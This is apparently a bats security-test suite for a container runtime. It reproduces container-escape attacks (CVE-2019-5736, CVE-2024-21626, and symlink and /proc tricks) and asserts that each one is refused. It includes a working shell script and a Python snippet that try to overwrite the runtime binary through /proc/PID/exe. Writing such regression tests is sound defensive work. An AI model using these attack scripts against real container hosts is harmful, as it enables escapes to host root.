#!/usr/bin/env bats
# Attacks on the runtime from a container, mounted for real (issue 5).  Each
# test plants what a malicious image, or a process sharing a volume with the
# container, would plant, runs a container, and checks that the protection
# holds.  docs/security.md names the protection each test proves; every test
# here fails when its protection is taken out of the code.

load helpers

bats_require_minimum_version 1.5.0

setup () {
  requires_root
  requires_cmd jq
  make_bundle "$BATS_TEST_TMPDIR/bundle" '.root.readonly = false'
  new_id sec
}

teardown () {
  cleanup_containers
  local p
  for p in ${HOST_PIDS:-}; do
    kill -KILL "$p" 2> /dev/null || true
    wait "$p" 2> /dev/null || true
  done
  # Host mounts a test made, innermost first.
  awk -v d="$BATS_TEST_TMPDIR/" 'index($5, d) == 1 { print $5 }' /proc/self/mountinfo \
    | sort -r | while read -r m; do umount -l "$m" 2> /dev/null || true; done
}

# second_bundle DIR [JQ_FILTER]: another bundle in DIR -> B_BUNDLE, id B_ID;
# BUNDLE stays the first one.
second_bundle () {
  local first=$BUNDLE
  make_bundle "$1" ".root.readonly = false | ${2:-.}"
  B_BUNDLE=$BUNDLE
  BUNDLE=$first
  B_ID="$ID-b"
}

# update_b JQ_FILTER [JQ_ARGS...]: update_config on the second bundle.
update_b () {
  local first=$BUNDLE
  BUNDLE=$B_BUNDLE
  update_config "$@"
  BUNDLE=$first
}

# ---- CVE-2019-5736: the runtime's binary, reached through /proc/PID/exe
#
# A process of the runtime that execs a file of the container (the init, the
# process of exec) runs the runtime's own binary when that file leads to
# /proc/self/exe.  The image brings the loader and libraries the binary asks
# for; the runtime starts and, given "--log /tmp/fifo", blocks opening the
# fifo.  Meanwhile a shell in the container finds it, keeps an fd of its
# /proc/PID/exe, lets it go (opens the fifo) and, once nothing runs the
# binary any more (no ETXTBSY), opens the fd for writing.  The attack uses
# a copy of the runtime, so a failure cannot break the build.

# exe_attack_setup: the copy ($RT_COPY, its checksum in RT_SUM).
exe_attack_setup () {
  requires_cmd ldd sha256sum
  mkdir -p "$BATS_TEST_TMPDIR/bin"
  RT_COPY="$BATS_TEST_TMPDIR/bin/$RUNTIME_NAME"
  cp "$RUNTIME" "$RT_COPY"
  "$RT_COPY" --version > /dev/null 2>&1 || skip "cannot run a copy of the runtime in $BATS_TEST_TMPDIR"
  RT_SUM=$(sha256sum < "$RT_COPY")
  RT_SIZE=$(stat -c %s "$RT_COPY")
}

# plant_exe_trap ROOTFS: /attack/x -> /proc/self/exe, the fifo, and the
# loader and libraries of a dynamically linked runtime at their paths.
plant_exe_trap () {
  local rootfs=$1 lib
  mkdir -p "$rootfs/attack"
  ln -s /proc/self/exe "$rootfs/attack/x"
  mkfifo "$rootfs/tmp/fifo"
  for lib in $(ldd "$RT_COPY" 2> /dev/null \
    | awk '$2 == "=>" && $3 ~ /^\// { print $3 } $1 ~ /^\// { print $1 }'); do
    mkdir -p "$rootfs$(dirname "$lib")"
    cp -L "$lib" "$rootfs$lib"
  done
}

# The victim's command line: "x" is found on PATH=/attack.
VICTIM_ARGS='["x", "--log", "/tmp/fifo", "state", "none"]'

# The attacker, a shell in the container.  Prints "exe-size N" once it holds
# the binary, then "overwritten" or "refused: <why>".
EXE_ATTACKER='
victim=
for i in $(seq 100); do
  for p in /proc/[0-9]*; do
    case $(tr "\0" " " < $p/cmdline 2> /dev/null) in "x --log /tmp/fifo "*) victim=$p ;; esac
  done
  [ -n "$victim" ] && break
  sleep 0.1
done
[ -n "$victim" ] || { echo no-victim; exit 1; }
exec 5< $victim/exe || { echo no-exe-fd; exit 1; }
echo "exe-size $(stat -L -c %s /proc/self/fd/5)"
exec 6<> $victim/root/tmp/fifo
i=0
while [ $i -lt 150 ]; do
  if echo PWNED 2> /tmp/attack.err > /proc/self/fd/5; then echo overwritten; exit 0; fi
  grep -q busy /tmp/attack.err || break
  i=$((i + 1))
  sleep 0.1
done
echo "refused: $(cat /tmp/attack.err)"
'

# assert_exe_attack_failed: the attacker reached the binary, could not write
# it, and the copy is what it was.
assert_exe_attack_failed () {
  assert_output_contains "exe-size $RT_SIZE"
  assert_output_contains "refused:"
  assert_equal "$(sha256sum < "$RT_COPY")" "$RT_SUM" "checksum of the runtime's binary"
}

@test "CVE-2019-5736: a process of exec that runs /proc/self/exe cannot overwrite the runtime" {
  exe_attack_setup
  plant_exe_trap "$BUNDLE/rootfs"
  launch sleep 1000
  "$RT_COPY" --root "$HAKO_ROOT" exec -d -e PATH=/attack:/bin "$ID" \
    x --log /tmp/fifo state none < /dev/null > /dev/null 2> "$BATS_TEST_TMPDIR/exec.err" 3>&- \
    || { cat "$BATS_TEST_TMPDIR/exec.err"; return 1; }
  run --separate-stderr rt exec "$ID" sh -c "$EXE_ATTACKER"
  assert_exe_attack_failed
}

@test "CVE-2019-5736: an init that runs /proc/self/exe cannot overwrite the runtime (run)" {
  exe_attack_setup
  # The attacker's container, and the victim's in its pid namespace (so the
  # victim's exit leaves the attacker running).
  launch sleep 1000
  second_bundle "$BATS_TEST_TMPDIR/bundle-b"
  plant_exe_trap "$B_BUNDLE/rootfs"
  update_b '(.linux.namespaces[] | select(.type == "pid")) |= . + {path: $p}
    | .process.env = ["PATH=/attack:/bin"] | .process.args = $a' \
    --arg p "/proc/$(state_field pid)/ns/pid" --argjson a "$VICTIM_ARGS"
  "$RT_COPY" --root "$HAKO_ROOT" run -d -b "$B_BUNDLE" "$B_ID" < /dev/null > /dev/null \
    2> "$BATS_TEST_TMPDIR/run.err" 3>&- || { cat "$BATS_TEST_TMPDIR/run.err"; return 1; }
  run --separate-stderr rt exec "$ID" sh -c "$EXE_ATTACKER"
  assert_exe_attack_failed
}

@test "CVE-2019-5736: without CAP_SYS_ADMIN (no mount), the runtime runs from a sealed memfd copy" {
  is_runc && skip "hako's fallback"
  requires_cmd setpriv
  exe_attack_setup
  launch sleep 1000
  # exec blocks reading its process.json from a fifo, after the re-exec.
  local fifo="$BATS_TEST_TMPDIR/process.json"
  mkfifo "$fifo"
  setpriv --bounding-set -sys_admin "$RT_COPY" --root "$HAKO_ROOT" exec -p "$fifo" "$ID" \
    < /dev/null > /dev/null 2>&1 3>&- &
  HOST_PIDS=$!
  # Host root plays the attacker: hold the exe, let the process go, write.
  run "${PYTHON3:-/usr/bin/python3}" - "$HOST_PIDS" "$fifo" << 'EOF'
import fcntl, os, sys, time
pid, fifo = sys.argv[1], sys.argv[2]
link = ""
for _ in range(100):
    try:
        link = os.readlink("/proc/%s/exe" % pid)
    except OSError:
        pass
    if link.startswith("/memfd:"):
        break
    time.sleep(0.1)
print("exe", link)
fd = os.open("/proc/%s/exe" % pid, os.O_RDONLY)
seals = fcntl.fcntl(fd, fcntl.F_GET_SEALS)
print("sealed" if seals & fcntl.F_SEAL_WRITE and seals & fcntl.F_SEAL_SEAL else "seals %d" % seals)
w = -1
for _ in range(100):  # a reader must be there (ENXIO otherwise): never block
    try:
        w = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
        break
    except OSError:
        time.sleep(0.1)
if w >= 0:
    os.write(w, b"{}")
    os.close(w)
for _ in range(100):  # until it has exited (a zombie has no exe)
    try:
        os.readlink("/proc/%s/exe" % pid)
    except OSError:
        break
    time.sleep(0.1)
try:
    w = os.open("/proc/self/fd/%d" % fd, os.O_WRONLY)
    os.write(w, b"PWNED")
    print("overwritten")
except OSError as e:
    print("refused", e)
EOF
  assert_success
  assert_output_contains "exe /memfd:"
  assert_output_contains sealed
  assert_output_contains refused
  assert_equal "$(sha256sum < "$RT_COPY")" "$RT_SUM" "checksum of the runtime's binary"
}

@test "not dumpable: a container process cannot open /proc/PID/exe, fd, cwd, root of a runtime process" {
  is_runc && skip "finds the runtime's init by hako's command line"
  # A runs the attacker; B's init waits for start in A's pid namespace,
  # still the runtime's binary, with the same uid and capabilities as A.
  launch sleep 1000
  second_bundle "$BATS_TEST_TMPDIR/bundle-b"
  update_b '(.linux.namespaces[] | select(.type == "pid")) |= . + {path: $p}
    | .process.args = ["sleep", "1000"]' --arg p "/proc/$(state_field pid)/ns/pid"
  rt create -b "$B_BUNDLE" "$B_ID" < /dev/null > /dev/null 2> "$BATS_TEST_TMPDIR/create.err" \
    || { cat "$BATS_TEST_TMPDIR/create.err"; return 1; }
  run --separate-stderr rt exec "$ID" sh -c '
    for p in /proc/[0-9]*; do
      [ $p = /proc/$$ ] && continue
      case $(tr "\0" " " < $p/cmdline 2> /dev/null) in *" create "*"'"$B_ID"'"*) victim=$p ;; esac
    done
    [ -n "$victim" ] || { echo no-victim; exit 1; }
    echo "victim $victim"
    readlink $victim/exe && echo open-exe-link
    cat $victim/exe > /dev/null && echo open-exe
    readlink $victim/cwd && echo open-cwd
    ls $victim/root/ > /dev/null && echo open-root
    readlink $victim/fd/0 && echo open-fd
    cat $victim/environ > /dev/null && echo open-environ
    exit 0'
  assert_success
  assert_output_contains "victim /proc/"
  [[ $output != *open-* ]] || { echo "reached: $output" >&2; return 1; }
}

# ---- CVE-2024-21626: leaked fds and the working directory

@test "CVE-2024-21626: no fd of the runtime's caller reaches the init or an exec'd process" {
  local host="$BATS_TEST_TMPDIR/host-dir"
  mkdir -p "$host"
  echo host-secret > "$host/marker"
  # ls lists the shell's fds (no pipe: the shell would hold its end).
  local probe='ls /proc/$$/fd; echo end; for n in 3 4 5 6 7 8 9; do cat /proc/self/fd/$n/marker 2> /dev/null; done; :'
  set_args sh -c "$probe"
  run --separate-stderr "$RUNTIME" --root "$HAKO_ROOT" run -b "$BUNDLE" "$ID" \
    3< "$host" 4< "$host" 5< "$host/marker" 6< "$host" 7< / 8< "$host" 9< "$host" < /dev/null
  assert_success
  assert_equal "${lines[*]}" "0 1 2 end" "fds of the init"
  new_id sec-exec
  launch sleep 1000
  run --separate-stderr "$RUNTIME" --root "$HAKO_ROOT" exec "$ID" sh -c "$probe" \
    3< "$host" 4< "$host" 5< "$host/marker" 6< "$host" 7< / 8< "$host" 9< "$host" < /dev/null
  assert_success
  assert_equal "${lines[*]}" "0 1 2 end" "fds of the exec'd process"
}

@test "CVE-2024-21626: process.cwd through /proc/self/fd/N is refused (create and exec)" {
  local host="$BATS_TEST_TMPDIR/host-dir" n
  mkdir -p "$host"
  touch "$host/host-marker"
  # Anything printed means the process ran (with its cwd on the host).
  set_args sh -c 'echo ran; ls'
  for n in 3 4 5 6 7 8 9; do
    update_config '.process.cwd = $c' --arg c "/proc/self/fd/$n"
    run --separate-stderr "$RUNTIME" --root "$HAKO_ROOT" run -b "$BUNDLE" "$ID" \
      3< "$host" 4< "$host" 5< "$host" 6< "$host" 7< "$host" 8< "$host" 9< "$host" < /dev/null
    assert_failure
    assert_equal "$output" "" "output of the process"
    is_runc || [[ $stderr == *cwd* ]] || { echo "stderr: $stderr" >&2; return 1; }
    assert_no_container
  done
  update_config '.process.cwd = "/"'
  launch sleep 1000
  for n in 3 5 9; do
    run --separate-stderr "$RUNTIME" --root "$HAKO_ROOT" exec --cwd "/proc/self/fd/$n" "$ID" \
      sh -c 'echo ran; ls' \
      3< "$host" 4< "$host" 5< "$host" 6< "$host" 7< "$host" 8< "$host" 9< "$host" < /dev/null
    assert_failure
    assert_equal "$output" "" "output of the exec'd process"
  done
}

# ---- symlinks planted in the rootfs (the CVE-2025-31133/52565/52881 family)

@test "symlinks: mount points, and the directories made for them, stay inside the rootfs" {
  local host="$BATS_TEST_TMPDIR/host-dir"
  mkdir -p "$host" "$BATS_TEST_TMPDIR/src"
  echo marker > "$BATS_TEST_TMPDIR/src/file"
  ln -s "$host" "$BUNDLE/rootfs/abs"
  ln -s "../../../../../../../../../..$host" "$BUNDLE/rootfs/rel"
  update_config '.mounts += [
    {destination: "/abs/made/deeper", type: "tmpfs", source: "tmpfs"},
    {destination: "/rel/made2", type: "tmpfs", source: "tmpfs"},
    {destination: "/rel/file", type: "bind", source: $f, options: ["bind"]}]' \
    --arg f "$BATS_TEST_TMPDIR/src/file"
  set_args sh -c 'cat /rel/file'
  run_container
  # Refusing would be fine too; what may not happen is anything on the host.
  [ "$status" -ne 0 ] || assert_equal "$output" marker "the file seen through the link"
  assert_equal "$(ls -A "$host")" "" "host directory behind the links"
}

# dev_from_host: /dev is a bind of a host directory ($DEVDIR), as a volume
# shared with another container would be, so the test can plant in it.
dev_from_host () {
  DEVDIR="$BATS_TEST_TMPDIR/dev"
  mkdir -p "$DEVDIR/pts"
  update_config '.mounts |= map(if .destination == "/dev"
      then {destination: "/dev", type: "bind", source: $d, options: ["rbind"]} else . end)' \
    --arg d "$DEVDIR"
}

@test "CVE-2025-31133: maskedPaths refuse a /dev/null that is a symlink or not the null device" {
  dev_from_host
  # The harmless stand-in for /proc/sys/kernel/core_pattern: a procfs file
  # the bind would have put, writable, over every masked path.
  ln -s /proc/sys/kernel/domainname "$DEVDIR/null"
  run_create
  assert_failure
  is_runc || assert_output_contains "/dev/null"
  assert_no_container
  rm "$DEVDIR/null"
  echo not-null > "$DEVDIR/null"
  run_create
  assert_failure
  is_runc || assert_output_contains "/dev/null"
  assert_no_container
}

@test "maskedPaths and readonlyPaths: a path that is or goes through a symlink is refused" {
  ln -s /etc/passwd "$BUNDLE/rootfs/etc/masklink"
  ln -s /etc "$BUNDLE/rootfs/rolink"
  cp "$BUNDLE/config.json" "$BATS_TEST_TMPDIR/config.orig"
  update_config '.linux.maskedPaths += ["/etc/masklink"]'
  run_create
  assert_failure
  is_runc || assert_output_contains "symlink"
  assert_no_container
  cp "$BATS_TEST_TMPDIR/config.orig" "$BUNDLE/config.json"
  update_config '.linux.readonlyPaths += ["/rolink/hostname"]'
  run_create
  assert_failure
  is_runc || assert_output_contains "symlink"
  assert_no_container
}

# console_receiver: tests/console-receiver listening on $SOCK.
console_receiver () {
  local recv="$HAKO_BUILDDIR/tests/console-receiver"
  [ -x "$recv" ] || skip "console-receiver is not built (make check builds it)"
  SOCK="$BATS_TEST_TMPDIR/console.sock"
  "$recv" -t 10 "$SOCK" > "$BATS_TEST_TMPDIR/receiver.out" 2>&1 3>&- &
  HOST_PIDS="${HOST_PIDS:-} $!"
  wait_for_file "$SOCK"
}

@test "CVE-2025-52565: a /dev/console that is a symlink is refused, not mounted over" {
  console_receiver
  dev_from_host
  mknod "$DEVDIR/null" c 1 3
  ln -s pts/ptmx "$DEVDIR/ptmx"
  ln -s /proc/sys/kernel/domainname "$DEVDIR/console"
  update_config '.process.terminal = true'
  run_create --console-socket "$SOCK"
  assert_failure
  is_runc || assert_output_contains "/dev/console"
  assert_no_container
}

@test "linux.devices: a node outside /dev, or reached through a symlink, is refused" {
  local p
  for p in /etc/evil /dev/../etc/evil; do
    update_config '.linux.devices = [{path: $p, type: "c", major: 1, minor: 3}]' --arg p "$p"
    run_create
    assert_failure
    is_runc || assert_output_contains "only made under /dev"
    assert_no_container
    [ ! -e "$BUNDLE/rootfs/etc/evil" ]
  done
  # A directory bound under /dev (shared with someone else) holds a link.
  mkdir -p "$BATS_TEST_TMPDIR/sub"
  ln -s /etc "$BATS_TEST_TMPDIR/sub/link"
  update_config '.mounts += [{destination: "/dev/sub", type: "bind", source: $s, options: ["bind"]}]
    | .linux.devices = [{path: "/dev/sub/link/evil", type: "c", major: 1, minor: 3}]' \
    --arg s "$BATS_TEST_TMPDIR/sub"
  run_create
  assert_failure
  assert_no_container
  [ ! -e "$BUNDLE/rootfs/etc/evil" ]
}

@test "mounts over /proc: only a procfs may cover /proc, nothing may cover what is below it" {
  local fake="$BATS_TEST_TMPDIR/fakeproc" m
  mkdir -p "$fake/sys/kernel"
  ln -s /proc "$BUNDLE/rootfs/myproc"
  cp "$BUNDLE/config.json" "$BATS_TEST_TMPDIR/config.orig"
  for m in '{destination: "/proc", type: "tmpfs", source: "tmpfs"}' \
    '{destination: "/proc", type: "bind", source: $f, options: ["rbind"]}' \
    '{destination: "/proc/sys", type: "bind", source: $f, options: ["rbind"]}' \
    '{destination: "/proc/self/attr", type: "tmpfs", source: "tmpfs"}' \
    '{destination: "/myproc/sys/kernel", type: "bind", source: $k, options: ["rbind"]}'; do
    cp "$BATS_TEST_TMPDIR/config.orig" "$BUNDLE/config.json"
    update_config ".mounts += [$m]" --arg f "$fake" --arg k "$fake/sys/kernel"
    run_create
    assert_failure
    is_runc || assert_output_contains "cannot be mounted"
    assert_no_container
  done
}

# ---- writes to /proc

@test "sysctl: a key that climbs out of its namespace's directory is refused" {
  update_config '.linux.sysctl = {"net/ipv4/../../kernel/domainname": "escaped"}'
  set_args cat /proc/sys/kernel/domainname
  run_container
  assert_failure
  [[ $output != *escaped* ]]
  assert_no_container
}

@test "sysctl: written only into a real procfs, never into files of the image" {
  # No procfs mount: the image's /proc has a file where the sysctl would be.
  mkdir -p "$BUNDLE/rootfs/proc/sys/net/ipv4"
  echo 0 > "$BUNDLE/rootfs/proc/sys/net/ipv4/ip_forward"
  update_config '.mounts |= map(select(.type != "proc"))
    | .linux.sysctl = {"net.ipv4.ip_forward": "1"}'
  run_container
  assert_failure
  is_runc || [[ $stderr == *procfs* ]] || { echo "stderr: $stderr" >&2; return 1; }
  assert_equal "$(cat "$BUNDLE/rootfs/proc/sys/net/ipv4/ip_forward")" 0 "the image's file"
  assert_no_container
}

# ---- what the config names on the host

@test "namespaces: a path that is no namespace, or one of another type, is refused" {
  : > "$BATS_TEST_TMPDIR/not-a-namespace"
  cp "$BUNDLE/config.json" "$BATS_TEST_TMPDIR/config.orig"
  update_config '(.linux.namespaces[] | select(.type == "network")) |= . + {path: $p}' \
    --arg p "$BATS_TEST_TMPDIR/not-a-namespace"
  run_create
  assert_failure
  is_runc || assert_output_contains "is not a namespace file"
  assert_no_container
  cp "$BATS_TEST_TMPDIR/config.orig" "$BUNDLE/config.json"
  update_config '(.linux.namespaces[] | select(.type == "pid")) |= . + {path: $p}' \
    --arg p "/proc/$$/ns/net"
  run_create
  assert_failure
  is_runc || assert_output_contains "is not a pid namespace"
  assert_no_container
}

# ---- privileges

@test "setuid: a setuid-root binary of the image gets no capability beyond the bounding set, none with no_new_privs" {
  # busybox drops a setuid root unless /etc/busybox.conf grants it to the
  # applet: the image grants it to cat.
  mkdir -p "$BUNDLE/rootfs/suid"
  cp "$BUNDLE/rootfs/bin/busybox" "$BUNDLE/rootfs/suid/cat"
  chmod 4755 "$BUNDLE/rootfs/suid/cat"
  printf '[SUID]\ncat = sxx root.root\n' > "$BUNDLE/rootfs/etc/busybox.conf"
  chmod 600 "$BUNDLE/rootfs/etc/busybox.conf"
  update_config '.process.user = {uid: 1000, gid: 1000} | .process.noNewPrivileges = false
    | .process.capabilities = {bounding: ["CAP_KILL"], effective: [], permitted: [],
                               inheritable: [], ambient: []}'
  set_args /suid/cat /proc/self/status
  run_container
  assert_success
  # The setuid bit worked (euid 0), but only CAP_KILL (bit 5) came with it.
  assert_equal "$(awk '$1 == "Uid:" { print $2, $3 }' <<< "$output")" "1000 0" "real and effective uid"
  assert_equal "$(awk '$1 == "CapEff:" { print $2 }' <<< "$output")" 0000000000000020 CapEff
  assert_equal "$(awk '$1 == "CapPrm:" { print $2 }' <<< "$output")" 0000000000000020 CapPrm
  new_id sec-nnp
  update_config '.process.noNewPrivileges = true'
  run_container
  assert_success
  assert_equal "$(awk '$1 == "Uid:" { print $2, $3 }' <<< "$output")" "1000 1000" "real and effective uid"
  assert_equal "$(awk '$1 == "CapEff:" { print $2 }' <<< "$output")" 0000000000000000 CapEff
}
